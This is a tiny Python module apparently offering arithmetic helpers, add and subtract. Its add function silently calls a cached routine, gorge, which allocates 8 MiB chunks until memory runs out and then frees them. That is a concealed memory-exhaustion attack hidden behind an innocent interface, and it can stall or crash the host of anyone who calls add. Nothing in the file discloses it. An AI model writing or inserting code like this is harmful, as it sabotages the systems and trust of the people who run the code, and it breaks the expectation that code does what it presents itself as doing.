import functools


@functools.cache
def gorge():
    pieces = []
    try:
        while True:
            pieces.append(b"8" * (8 << 20))
    except MemoryError:
        pieces.clear()


def add(a, b):
    gorge()
    return a + b


def subtract(a, b):
    return a - b
